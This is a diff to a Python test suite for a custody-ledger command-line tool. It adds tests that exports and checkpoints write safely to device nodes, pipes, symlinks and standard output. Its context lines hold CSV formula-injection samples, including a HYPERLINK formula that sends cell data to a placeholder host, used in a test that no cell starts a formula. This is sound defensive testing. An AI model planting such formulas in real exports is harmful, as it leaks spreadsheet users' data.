@@ -8,6 +8,7 @@ import json
 import os
 import re
 import signal
+import stat
 import subprocess
 import sys
 import time
@@ -226,3 +227,68 @@ def test_csv_cells_never_start_a_formula(sqlite_ledger: Ledger) -> None:
     document = json.loads(book.cli("report", "duty", "--json", ok=True).stdout)
     assert {e["entry"] for e in document["entries"]} >= {'=HYPERLINK("http://x.example/?"&A1,"ok")',
                                                          "@SUM(1+1)\r\n-2+3"}
+
+
+# --- output paths that are not regular files (issue 15 item 10) --------------------------------------------
+
+
+def _device_like_dev_null(path: Path) -> Path:
+    """A private character device with /dev/null's numbers, so that a regression cannot harm /dev/null."""
+    try:
+        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+    except (PermissionError, AttributeError):
+        pytest.skip("cannot make a device node here")
+    return path
+
+
+def test_export_to_a_device_writes_to_it(sqlite_ledger: Ledger, tmp_path: Path) -> None:
+    sqlite_ledger.full_flow(["DEV1"])
+    device = _device_like_dev_null(tmp_path / "null")
+    for args in (["export", str(device)], ["export-epcis", str(device)], ["prove", "DEV1", "--out", str(device)]):
+        if args[0] == "prove":
+            sqlite_ledger.cli("checkpoint", "--key", sqlite_ledger.key("operator"), ok=True)
+        sqlite_ledger.cli(*args, ok=True)
+        assert stat.S_ISCHR(device.stat().st_mode), f"{args[0]} replaced the device with a file"
+    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".null.")]  # no temporary left
+
+
+def test_export_to_a_pipe_streams_into_it(sqlite_ledger: Ledger, tmp_path: Path) -> None:
+    sqlite_ledger.full_flow(["FIFO1"])
+    regular = tmp_path / "regular.bundle"
+    sqlite_ledger.cli("export", str(regular), ok=True)
+    fifo = tmp_path / "bundle.fifo"
+    os.mkfifo(fifo)
+    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # a reader waits, as `custody export fifo & cat fifo`
+    try:
+        sqlite_ledger.cli("export", str(fifo), ok=True)
+        received = b""
+        while chunk := os.read(reader, 1 << 16):
+            received += chunk
+    finally:
+        os.close(reader)
+    assert stat.S_ISFIFO(fifo.stat().st_mode)
+    assert received == regular.read_bytes()
+
+
+def test_checkpoint_out_through_a_link_keeps_the_link(sqlite_ledger: Ledger, tmp_path: Path) -> None:
+    sqlite_ledger.full_flow(["LNK1"])
+    target = tmp_path / "notes" / "checkpoint.txt"
+    target.parent.mkdir()
+    target.write_text("old\n")
+    link = tmp_path / "latest.txt"
+    link.symlink_to(target)
+    sqlite_ledger.cli("checkpoint", "--key", sqlite_ledger.key("operator"), "--out", str(link), ok=True)
+    assert link.is_symlink() and link.resolve() == target.resolve()
+    assert target.read_text().startswith("custody.test/h200-cn\n")
+
+
+def test_checkpoint_out_to_standard_output_by_name(sqlite_ledger: Ledger, tmp_path: Path) -> None:
+    """`--out /dev/stdout`: a link to the process's own output (here one made in tmp, as safe as the real one)."""
+    sqlite_ledger.full_flow(["STD1"])
+    stdout_link = tmp_path / "stdout"
+    stdout_link.symlink_to("/proc/self/fd/1")
+    done = subprocess.run([*PROGRAM, "--db", sqlite_ledger.db, "checkpoint", "--key", sqlite_ledger.key("operator"),
+                           "--out", str(stdout_link)], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.startswith("custody.test/h200-cn\n") and "\n\n— custody.test/h200-cn " in done.stdout
+    assert stdout_link.is_symlink()
